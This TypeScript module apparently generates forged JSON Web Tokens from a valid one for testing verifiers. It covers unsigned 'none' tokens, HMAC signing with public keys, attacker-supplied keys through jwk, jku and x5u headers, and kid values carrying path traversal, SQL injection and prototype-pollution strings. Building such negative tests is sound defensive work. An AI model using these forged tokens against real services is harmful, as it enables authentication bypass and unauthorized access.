// JWTs that nobody but an attacker makes, each from one that is good.

import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto'
import type { JWK } from 'jose'

type Json = Readonly<Record<string, unknown>>

const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')

function partsOf(jwt: string): { header: Json; claims: string; signature: string } {
  const [header = '', claims = '', signature = ''] = jwt.split('.')
  return { header: JSON.parse(Buffer.from(header, 'base64url').toString()), claims, signature }
}

/** RFC 8725 §3.1: without a signature, however that is spelt. */
export function unsigned(jwt: string): readonly string[] {
  const { header, claims, signature } = partsOf(jwt)
  return ['none', 'None', 'NONE', ''].flatMap((alg) => {
    const head = `${encode({ ...header, alg })}.${claims}`
    return [`${head}.`, `${head}.${signature}`, head]
  })
}

/** RFC 8725 §2.1: signed with what everybody knows, as if it were a secret. */
export function signedWithPublicKeys(jwt: string, keys: readonly JWK[]): readonly string[] {
  const { header, claims } = partsOf(jwt)
  const head = `${encode({ ...header, alg: 'HS256' })}.${claims}`
  const secrets = keys.flatMap((jwk) => {
    const pem = createPublicKey({ key: { ...jwk }, format: 'jwk' }).export({
      type: 'spki',
      format: 'pem',
    })
    return [pem.toString(), pem.toString().trim(), JSON.stringify(jwk)]
  })
  return [...secrets, '', 'secret', String(header.kid)].map((secret) => {
    const signature = createHmac('sha256', secret).update(head).digest('base64url')
    return `${head}.${signature}`
  })
}

/** RFC 8725 §3.10: signed with a key that the token brings along, points to, or looks up somewhere else. */
export function signedWithOwnKey(jwt: string, trap: string): readonly string[] {
  const { header, claims } = partsOf(jwt)
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const jwk = publicKey.export({ format: 'jwk' })
  const headers: readonly Json[] = [
    { jwk },
    { jku: `${trap}/jwks` },
    { x5u: `${trap}/chain.pem` },
    { kid: '../../../../etc/passwd' },
    { kid: "' or 1=1 --" },
    { kid: '__proto__' },
    { kid: `${trap}/jwks` },
    { kid: 'k'.repeat(8000) },
    { crit: ['x-admin'], 'x-admin': true },
    { b64: false, crit: ['b64'] },
  ]
  return headers.map((more) => {
    const head = `${encode({ ...header, alg: 'ES256', ...more })}.${claims}`
    const signature = sign('sha256', Buffer.from(head), {
      key: privateKey,
      dsaEncoding: 'ieee-p1363',
    })
    return `${head}.${signature.toString('base64url')}`
  })
}

/** RFC 7515 §4.1.11: of the right key, with an extension that must be understood added after it was signed. */
export function withExtension(jwt: string): readonly string[] {
  const { header, claims, signature } = partsOf(jwt)
  return [['exp'], ['x-admin'], []].map(
    (crit) => `${encode({ ...header, crit, 'x-admin': true })}.${claims}.${signature}`,
  )
}
